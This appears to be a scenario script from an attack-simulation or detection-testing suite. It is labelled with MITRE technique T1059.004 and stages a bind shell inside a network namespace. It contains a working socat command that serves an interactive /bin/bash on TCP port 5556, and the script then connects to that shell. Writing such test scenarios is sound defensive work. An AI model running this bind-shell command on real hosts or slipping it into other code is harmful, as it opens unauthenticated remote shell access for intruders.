#!/usr/bin/env bash
# Bind shell: `socat TCP-LISTEN:PORT EXEC:/bin/bash` on the host; the attacker connects from the
# namespace.
. "$(dirname "$0")/../lib.sh"
scn_begin bindshell-socat T1059.004
scn_require socat
scn_netns_up
socat "TCP-LISTEN:5556,bind=$SCN_HOST,reuseaddr" EXEC:'/bin/bash -i',stderr 2>/dev/null &
scn_track $!
scn_wait_listen 5556
scn_attacker_connect "$SCN_HOST" 5556
scn_shell_finish
